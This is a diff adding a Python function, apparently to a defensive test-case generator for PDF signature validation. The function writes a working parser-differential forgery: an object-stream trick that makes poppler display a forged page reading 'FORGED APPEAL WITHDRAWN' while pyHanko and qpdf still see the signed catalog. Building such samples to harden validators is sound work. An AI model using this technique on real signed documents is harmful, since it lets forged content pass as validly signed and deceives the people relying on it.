@@ -425,6 +425,63 @@ def xref_offset_with_an_underscore(build: Path, pki) -> Path:
     return pdf
 
 
+def object_stream_first_offset(build: Path, pki) -> Path:
+    """One update stores the catalog in an object stream whose first header offset lies beyond /First:
+    pyHanko and qpdf read the object at /First plus that offset (the signed catalog), poppler at the offset
+    itself (a forged catalog whose page tree holds one page, "FORGED APPEAL WITHDRAWN"), with no warning
+    (found by an attacker, issue 17, third round)."""
+    import struct
+
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    pdf = pdf_of(build)
+    data = pdf.read_bytes()
+    reader = PdfFileReader(io.BytesIO(data), strict=False)
+    trailer = reader.trailer_view
+    size = int(trailer["/Size"])
+    number, catalog = _object(data, "")
+    stream_number, dummy, pages, page, content, font, xref = range(size, size + 7)
+    forged = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % pages, catalog)
+    first = len(forged) + 100
+    offset = first + 10
+    second = offset + len(catalog) + 10
+    packed = bytearray(b" " * (first + second + 10))
+    header = b"%d %d %d %d" % (number, offset, dummy, second)
+    packed[:len(header)] = header
+    packed[offset:offset + len(forged)] = forged  # poppler's object
+    packed[first + offset:first + offset + len(catalog)] = catalog  # pyHanko's and qpdf's
+    packed[first + second:first + second + 4] = b"null"
+    text = b"BT /FX 24 Tf 40 500 Td (FORGED APPEAL WITHDRAWN) Tj ET"
+    plain = {pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page,
+             page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << "
+                   b"/FX %d 0 R >> >> >>" % (pages, content, font),
+             content: _stream(b"", text), font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
+    body, entries = bytearray(b"\n"), {}
+    for each in sorted(plain):
+        entries[each] = (1, len(data) + len(body), 0)
+        body += b"%d 0 obj\n" % each + plain[each] + b"\nendobj\n"
+    entries[stream_number] = (1, len(data) + len(body), 0)
+    body += b"%d 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d >>\nstream\n" % (stream_number, first, len(packed)) \
+        + bytes(packed) + b"\nendstream\nendobj\n"
+    entries[number], entries[dummy] = (2, stream_number, 0), (2, stream_number, 1)
+    entries[xref] = (1, len(data) + len(body), 0)
+    index, rows = [], b""
+    for each in sorted(entries):
+        if not index or each != index[-1][0] + index[-1][1]:
+            index.append([each, 0])
+        index[-1][1] += 1
+        rows += struct.pack(">BIH", *entries[each])
+    identifier = b"".join(b"<%s>" % part.original_bytes.hex().encode() for part in trailer["/ID"])
+    body += (b"%d 0 obj\n<< /Type /XRef /Size %d /Root %d 0 R /Info %d 0 R /ID [%s] /Prev %d /W [1 4 2] /Index [%s] "
+             b"/Length %d >>\nstream\n" % (xref, xref + 1, number, trailer.raw_get("/Info").idnum, identifier,
+                                           reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1),
+                                           b" ".join(b"%d %d" % tuple(pair) for pair in index), len(rows))
+             + rows + b"\nendstream\nendobj\n")
+    body += b"startxref\n%d\n%%%%EOF\n" % entries[xref][1]
+    pdf.write_bytes(data + bytes(body))
+    return pdf
+
+
 def _dss_rewritten(build: Path, dss: bytes) -> Path:
     pdf = pdf_of(build)
     data = pdf.read_bytes()
